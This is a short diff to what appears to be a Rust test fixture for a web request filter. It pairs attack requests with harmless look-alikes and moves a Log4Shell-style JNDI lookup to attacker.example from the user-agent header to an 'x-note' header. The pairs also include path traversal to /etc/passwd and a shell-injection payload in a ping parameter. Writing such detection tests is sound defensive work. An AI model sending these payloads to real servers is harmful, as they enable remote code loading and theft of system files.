@@ -65,8 +65,8 @@ fn others() -> Vec<(&'static str, Ask, Ask)> {
         ("path", Ask::get("/files/..%2f..%2f..%2fetc/passwd"), Ask::get("/files/etc/readme")),
         (
             "header",
-            Ask::get("/").field("user-agent", "${jndi:ldap://attacker.example/a}"),
-            Ask::get("/").field("user-agent", "curl/8"),
+            Ask::get("/").field("x-note", "${jndi:ldap://attacker.example/a}"),
+            Ask::get("/").field("x-note", "curl"),
         ),
         ("path in a query", Ask::get("/show?file=../../../../etc/passwd"), Ask::get("/show?file=notes.txt")),
         ("shell", Ask::get("/ping?host=1.1.1.1;cat%20/etc/passwd"), Ask::get("/ping?host=1.1.1.1")),
